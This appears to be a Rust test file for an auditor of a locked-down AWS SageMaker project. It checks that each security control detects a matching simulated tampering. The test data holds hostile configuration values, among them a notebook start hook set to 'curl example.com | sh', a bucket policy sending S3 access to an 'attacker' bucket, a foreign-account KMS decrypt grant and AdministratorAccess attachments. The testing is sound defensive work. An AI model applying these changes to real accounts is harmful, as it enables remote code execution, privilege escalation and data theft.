//! Environments that stand as they were declared keep every promise; each promise is broken once.

use std::collections::BTreeMap;

use serde_json::{Value, json};

use super::scene::Scene;
use super::{Check, Control, Report, Verdict, audit, controls};
use crate::api::{Guardrails, Notebook, Preset, SecureMLProjectSpec};
use crate::blueprint::{Blueprint, Node, Project, draw, tests::project};
use crate::model::{NodeKey, Output, resolve};
use crate::plan::{Object, Phase, Unread, World};

const PRESETS: [Preset; 3] = [Preset::Published, Preset::Standard, Preset::Strict];

/// An environment, and what stands of it in AWS.
struct Environment {
    project: Project,
    blueprint: Blueprint,
    world: World,
}

impl Environment {
    /// One that was built as declared.
    fn built(preset: Preset) -> Self {
        let notebook = |name: &str| {
            let notebook =
                json!({"name": name, "ownerEmail": format!("{name}@example.com"), "instanceType": "ml.t3.medium"});
            serde_json::from_value::<Notebook>(notebook).expect("a notebook")
        };
        let spec = SecureMLProjectSpec {
            guardrails: Guardrails {
                preset,
                ..Guardrails::default()
            },
            notebooks: vec![notebook("ana"), notebook("bo")],
            packages: serde_json::from_value(json!({"mirror": {
                "endpointService": "com.amazonaws.vpce.eu-central-1.vpce-svc-0123456789abcdef0"
            }}))
            .expect("a mirror"),
            ..SecureMLProjectSpec::default()
        };
        let project = project(spec);
        let blueprint = draw(&project);
        let objects = blueprint
            .nodes
            .values()
            .map(|node| (node.key.clone(), vec![built(&project, &blueprint, node)]));
        let world = World {
            owned: objects.collect(),
            ..World::default()
        };
        Self {
            project,
            blueprint,
            world,
        }
    }

    fn audit(&self) -> Report {
        audit(&self.project, &self.blueprint, &self.world)
    }

    fn check(&self, control: &'static Control) -> Check {
        Check::new(control, &Scene::new(&self.project, &self.blueprint, &self.world))
    }

    /// Changes the value at `pointer` of the resource `node`, as somebody would behind our back.
    fn tamper(&mut self, node: &str, pointer: &str, change: impl FnOnce(&mut Value)) {
        let node: NodeKey = node.parse().expect("a node");
        let object = self
            .world
            .owned
            .get_mut(&node)
            .and_then(|objects| objects.first_mut())
            .expect("a resource");
        let value = object.attributes.pointer_mut(pointer);
        change(value.unwrap_or_else(|| panic!("{node} has no {pointer}")));
    }
}

/// What AWS would hold of `node`.
fn built(project: &Project, blueprint: &Blueprint, node: &Node) -> Object {
    let called = |output: &Output| {
        blueprint
            .nodes
            .get(&output.node)
            .map(|of| invented(project, of, &output.name))
    };
    let mut attributes = node.attributes.clone();
    resolve(&mut attributes, &called);
    let outputs = ["id", "arn", "dnsName"].map(|output| (output.to_owned(), invented(project, node, output)));
    Object {
        kind: node.key.kind.clone(),
        id: invented(project, node, "id"),
        outputs: outputs.into(),
        attributes,
        tags: node.tags.clone(),
        state: String::new(),
        phase: Phase::Ready,
    }
}

fn invented(project: &Project, node: &Node, output: &str) -> String {
    let name = &node.name;
    let path = node.attributes["path"].as_str().unwrap_or("/");
    match (node.key.kind.as_str(), output) {
        ("Bucket", "arn") => project.s3_arn(name),
        ("IamRole", "arn") => project.iam_arn(&format!("role{path}{name}")),
        ("IamPolicy", "arn") => project.iam_arn(&format!("policy{path}{name}")),
        ("KmsKey", "arn") => project.arn("kms", &format!("key/{}", node.key.name)),
        ("LifecycleConfig" | "Bucket" | "IamRole" | "Notebook", "id") => name.clone(),
        (kind, _) => format!("{}-{}-{output}", kind.to_lowercase(), node.key.name),
    }
}

/// The controls that are not kept, with what was found.
fn broken(report: &Report) -> BTreeMap<&'static str, String> {
    let lines = report.broken().map(|check| {
        let found = check.wrong();
        let found: Vec<String> = found
            .map(|finding| format!("{}: {}", finding.resource, finding.evidence))
            .collect();
        (check.control.id, found.join("\n  "))
    });
    lines.collect()
}

#[test]
fn what_stands_as_declared_keeps_every_promise() {
    for preset in PRESETS {
        let report = Environment::built(preset).audit();
        let broken: Vec<String> = broken(&report)
            .into_iter()
            .map(|(id, found)| format!("{id}\n  {found}"))
            .collect();
        assert!(broken.is_empty(), "{preset:?}:\n{}", broken.join("\n"));
    }
}

/// What somebody does behind our back, and the control that it breaks.
struct Tampering {
    breaks: &'static str,
    node: &'static str,
    at: &'static str,
    change: fn(&mut Value),
}

const fn tampering(breaks: &'static str, node: &'static str, at: &'static str, change: fn(&mut Value)) -> Tampering {
    Tampering {
        breaks,
        node,
        at,
        change,
    }
}

/// Removes the statement `sid` from a policy.
fn without(policy: &mut Value, sid: &str) {
    let statements = policy["Statement"].as_array_mut().expect("statements");
    let before = statements.len();
    statements.retain(|statement| statement["Sid"] != sid);
    assert!(statements.len() < before, "there is no {sid}");
}

/// Takes every condition from the statement `sid`.
fn unconditional(policy: &mut Value, sid: &str) {
    let statements = policy["Statement"].as_array_mut().expect("statements");
    let statement = statements.iter_mut().find(|statement| statement["Sid"] == sid);
    let statement = statement.and_then(Value::as_object_mut).expect("the statement");
    statement.remove("Condition").expect("conditions");
}

/// Allows everything.
fn open(policy: &mut Value) {
    let everything = json!({"Sid": "Mine", "Effect": "Allow", "Principal": "*", "Action": "*", "Resource": "*"});
    policy["Statement"].as_array_mut().expect("statements").push(everything);
}

const BOUNDARY: &str = "IamPolicy/boundary";
const CODE: &str = "IamRole/notebook-ana";
const DOCUMENT: &str = "/document";
const POLICY: &str = "/policy";
const GUARDRAILS: &str = "/inline/guardrails";

const TAMPERINGS: &[Tampering] = &[
    tampering("I24", "Bucket/data", POLICY, |it| {
        let statements = it["Statement"].as_array_mut().expect("statements");
        statements
            .iter_mut()
            .for_each(|statement| statement["Resource"] = json!("arn:aws:s3:::x/audit.csv"));
    }),
    tampering("I24", "KmsKey/project", POLICY, |it| {
        let theirs = json!({"Sid": "Theirs", "Effect": "Allow", "Principal": {"AWS": "arn:aws:iam::444455556666:root"}, "Action": "kms:Decrypt", "Resource": "*"});
        it["Statement"].as_array_mut().expect("statements").push(theirs);
    }),
    tampering("I24", "VpcEndpoint/s3", POLICY, |it| {
        let away = json!({"Sid": "Away", "Effect": "Allow", "Principal": "*", "Action": "s3:*", "Resource": "arn:aws:s3:::attacker/*"});
        it["Statement"].as_array_mut().expect("statements").push(away);
    }),
    tampering("N3", "Vpc/main", "/gateways", |it| {
        *it = json!([{"type": "internet", "id": "igw-1"}])
    }),
    tampering("N3", "Vpc/main", "/mainRoutes", |it| {
        *it = json!([{"destination": "0.0.0.0/0", "target": "pcx-1"}])
    }),
    tampering("N3", "RouteTable/private", "/routes", |it| {
        *it = json!([{"destination": "::/0", "target": "eigw-1"}])
    }),
    tampering("N3", "RouteTable/private", "/propagation", |it| *it = json!(["vgw-1"])),
    tampering("N4", "SecurityGroupRules/sagemaker", "/egress", |it| {
        let anywhere = json!({"protocol": "-1", "peer": {"cidr": "0.0.0.0/0"}});
        it.as_array_mut().expect("rules").push(anywhere);
    }),
    tampering("N3", "Subnet/a", "/routeTable", |it| *it = json!("rtb-mine")),
    tampering("N3", "RouteTable/private", "/strangers", |it| {
        *it = json!([{"target": "subnet-mine", "association": "rtbassoc-1"}]);
    }),
    tampering("N4", "VpcEndpoint/kms", "/groups", |it| *it = json!(["sg-mine"])),
    tampering("EC2.2", "Vpc/main", "/defaultGroup/egress", |it| {
        *it = json!([{"protocol": "-1", "peer": {"cidr": "0.0.0.0/0"}}]);
    }),
    tampering("EC2.6", "FlowLog/vpc", "/trafficType", |it| *it = json!("REJECT")),
    tampering("EC2.6", "LogGroup/vpc-flow-logs", "/key", |it| *it = Value::Null),
    tampering("EC2.10", "VpcEndpoint/ec2", "/privateDns", |it| *it = json!(false)),
    tampering("EC2.15", "Subnet/a", "/mapPublicIpOnLaunch", |it| *it = json!(true)),
    tampering("E5", "VpcEndpoint/s3", POLICY, open),
    tampering("E5", "VpcEndpoint/kms", POLICY, |it| *it = Value::Null),
    tampering("IAM.1", CODE, GUARDRAILS, open),
    tampering("IAM.21", CODE, GUARDRAILS, |it| {
        let all = json!({"Sid": "All", "Effect": "Allow", "Action": "s3:*", "Resource": "*"});
        it["Statement"].as_array_mut().expect("statements").push(all);
    }),
    tampering("I3", "Notebook/ana", "/roleArn", |it| {
        *it = json!("arn:aws:iam::111122223333:role/mine")
    }),
    tampering("I3", "IamRole/admin", "/trust", open),
    tampering("I3", CODE, "/trust", |it| unconditional(it, "Service")),
    tampering("I14", BOUNDARY, DOCUMENT, |it| unconditional(it, "Pass")),
    tampering("I16", BOUNDARY, DOCUMENT, open),
    tampering("I18", BOUNDARY, DOCUMENT, |it| unconditional(it, "Own")),
    tampering("I19", CODE, "/boundary", |it| *it = Value::Null),
    tampering("I19", CODE, "/boundary", |it| {
        *it = json!("arn:aws:iam::aws:policy/AdministratorAccess")
    }),
    tampering("I21", BOUNDARY, DOCUMENT, |it| without(it, "Elsewhere")),
    tampering("I24", CODE, "/attached", |it| {
        *it = json!(["arn:aws:iam::aws:policy/AdministratorAccess"])
    }),
    tampering("I24", CODE, "/instanceProfiles", |it| *it = json!(["mine"])),
    tampering("I24", BOUNDARY, DOCUMENT, open),
    tampering("I4", BOUNDARY, DOCUMENT, |it| unconditional(it, "Jobs")),
    tampering("I4", BOUNDARY, DOCUMENT, |it| unconditional(it, "Model")),
    tampering("I5", BOUNDARY, DOCUMENT, |it| without(it, "Subnet")),
    tampering("I5", BOUNDARY, DOCUMENT, |it| without(it, "Group")),
    tampering("I6", BOUNDARY, DOCUMENT, |it| without(it, "VolumeKey")),
    tampering("I24", CODE, GUARDRAILS, |it| {
        *it = json!({"Version": "2012-10-17", "Statement": []})
    }),
    tampering("I7", BOUNDARY, DOCUMENT, |it| unconditional(it, "Transform")),
    tampering("I8", BOUNDARY, DOCUMENT, |it| unconditional(it, "Jobs")),
    tampering("I9", "IamPolicy/boundary-launch", DOCUMENT, |it| {
        unconditional(it, "Notebook")
    }),
    tampering("I10", "IamPolicy/boundary-launch", DOCUMENT, |it| {
        unconditional(it, "Notebook")
    }),
    tampering("I11", "IamPolicy/boundary-launch", DOCUMENT, |it| {
        unconditional(it, "Notebook")
    }),
    tampering("I11", "Notebook/ana", "/lifecycleConfig", |it| *it = json!("mine")),
    tampering("I11", "LifecycleConfig/notebook", "/onStart", |it| {
        *it = json!("curl example.com | sh")
    }),
    tampering("SageMaker.5", BOUNDARY, DOCUMENT, |it| unconditional(it, "Model")),
    tampering("I13", BOUNDARY, DOCUMENT, |it| unconditional(it, "Jobs")),
    tampering("I15", BOUNDARY, DOCUMENT, open),
    tampering("I17", BOUNDARY, DOCUMENT, |it| without(it, "FixedTags")),
    tampering("I17", BOUNDARY, DOCUMENT, |it| unconditional(it, "Make")),
    tampering("I20", "IamPolicy/boundary-access", DOCUMENT, |it| {
        unconditional(it, "Open")
    }),
    tampering("SageMaker.1", "Notebook/ana", "/directInternetAccess", |it| {
        *it = json!(true)
    }),
    tampering("SageMaker.2", "Notebook/ana", "/subnet", |it| {
        *it = json!("subnet-0badc0ffee0badc0f")
    }),
    tampering("SageMaker.3", "Notebook/ana", "/rootAccess", |it| *it = json!(true)),
    tampering("SageMaker.8", "Notebook/ana", "/platform", |it| {
        *it = json!("notebook-al1-v1")
    }),
    tampering("SageMaker.21", "Notebook/ana", "/kmsKey", |it| *it = Value::Null),
    tampering("B4", "Notebook/ana", "/minimumImds", |it| *it = json!("1")),
    tampering("S2", "Bucket/data", POLICY, |it| {
        without(it, "ObjectsOnlyThroughTheEndpoint")
    }),
    tampering("S2", "Bucket/model", POLICY, |it| {
        without(it, "BucketOnlyThroughTheEndpoint")
    }),
    tampering("S2", "Bucket/data", POLICY, |it| *it = Value::Null),
    tampering("S4", "Bucket/data", POLICY, |it| without(it, "OnlyTheProjectKey")),
    tampering("S4", "Bucket/data", POLICY, |it| without(it, "OnlyKmsEncryption")),
    tampering("S4", "Bucket/data", POLICY, |it| without(it, "NoKeyOfTheCaller")),
    tampering("S4", "Bucket/data", POLICY, |it| without(it, "NoKeyOfAws")),
    tampering("S3.5", "Bucket/data", POLICY, |it| {
        without(it, "OnlyEncryptedConnections")
    }),
    tampering("S3.5", "Bucket/data", POLICY, |it| without(it, "OnlyCurrentTls")),
    tampering("S3.1", "Bucket/data", "/publicAccessBlock/blockPublicPolicy", |it| {
        *it = json!(false)
    }),
    tampering("S3.12", "Bucket/data", "/ownership", |it| *it = json!("ObjectWriter")),
    tampering("S3.14", "Bucket/data", "/versioning", |it| *it = json!("Suspended")),
    tampering("S3.17", "Bucket/data", "/encryption/algorithm", |it| {
        *it = json!("AES256")
    }),
    tampering("KMS.1", BOUNDARY, DOCUMENT, open),
    tampering("KMS.3", "KmsKey/project", "/state", |it| *it = json!("PendingDeletion")),
    tampering("KMS.4", "KmsKey/project", "/rotationDays", |it| *it = Value::Null),
    tampering("KMS.5", "KmsKey/project", POLICY, open),
    tampering("K3", "KmsKey/project", POLICY, |it| without(it, "AccountManages")),
    tampering("K4", "KmsKey/project", POLICY, open),
    tampering("K5", "KmsKey/project", POLICY, |it| without(it, "OnlyFromInside")),
    tampering("K6", "KmsKey/project", POLICY, |it| {
        without(it, "NobodyElseIsGranted");
        unconditional(it, "ServicesAreGranted");
    }),
    tampering("K6", "KmsKey/project", "/grants", |it| {
        *it = json!({"g-1": "arn:aws:iam::999999999999:root"})
    }),
    tampering("K8", "KmsKey/project", POLICY, |it| {
        unconditional(it, "LogsAreEncrypted")
    }),
    tampering("I25", CODE, "/inline/work", |it| without(it, "Make")),
    tampering("I25", "VpcEndpoint/s3", POLICY, |it| {
        *it = json!({"Version": "2012-10-17", "Statement": []})
    }),
];

#[test]
fn what_somebody_changed_breaks_the_promise_that_it_is_about() {
    let mut silent = Vec::new();
    for tampering in TAMPERINGS {
        let Tampering { breaks, node, at, .. } = tampering;
        let control = controls().find(|control| control.id == *breaks).expect("a control");
        // Some promises are made under the strict preset only.
        let verdicts = [Preset::Standard, Preset::Strict].map(|preset| {
            let mut environment = Environment::built(preset);
            environment.tamper(node, at, tampering.change);
            let check = environment.check(control);
            let gone = check.findings().iter().find(|finding| finding.evidence == "it is gone");
            assert!(gone.is_none(), "{breaks}: {gone:?}: what {at} became cannot be read");
            check.verdict()
        });
        let verdict = verdicts.into_iter().find(|verdict| *verdict != Verdict::NotApplicable);
        if verdict != Some(Verdict::Fail) {
            silent.push(format!("{breaks}: {verdict:?}, though {node} was changed at {at}"));
        }
    }
    assert!(silent.is_empty(), "{}", silent.join("\n"));
}

#[test]
fn what_bears_the_tags_and_is_not_declared_or_there_twice_is_told() {
    let mut environment = Environment::built(Preset::Standard);
    let endpoint: NodeKey = "VpcEndpoint/kms".parse().expect("a node");
    let second = environment.world.owned[&endpoint][0].clone();
    let mut foreign = second.clone();
    foreign.id = "vpce-theirs".to_owned();
    environment.world.owned.entry(endpoint).or_default().push(second);
    let other: NodeKey = "VpcEndpoint/theirs".parse().expect("a node");
    environment.world.owned.insert(other, vec![foreign]);
    let report = environment.audit();
    let found = &broken(&report)["P1"];
    assert!(found.contains("VpcEndpoint/kms: it is there more than once"), "{found}");
    assert!(
        found.contains("VpcEndpoint/theirs: it bears the project's tags and is not declared"),
        "{found}"
    );
}

#[test]
fn every_control_is_shown_to_be_able_to_fail() {
    for control in controls().filter(|control| control.id != "P1") {
        let breaks = |tampering: &Tampering| tampering.breaks == control.id;
        assert!(TAMPERINGS.iter().any(breaks), "nothing breaks {}", control.id);
    }
}

#[test]
fn of_what_could_not_be_read_nothing_is_told() {
    let mut environment = Environment::built(Preset::Standard);
    environment.world.owned.retain(|node, _| node.kind != "Bucket");
    let unread = Unread {
        why: "s3:ListBuckets was denied".to_owned(),
        passes: false,
    };
    environment.world.unread.insert("Bucket".to_owned(), unread);
    let report = environment.audit();
    let found = broken(&report);
    assert!(found["S3.1"].contains("s3:ListBuckets was denied"), "{found:?}");
    assert_eq!(report.count(Verdict::Fail), 0, "{found:?}");
    assert!(report.count(Verdict::Unknown) > 1, "{found:?}");
    assert!(!report.holds());
}
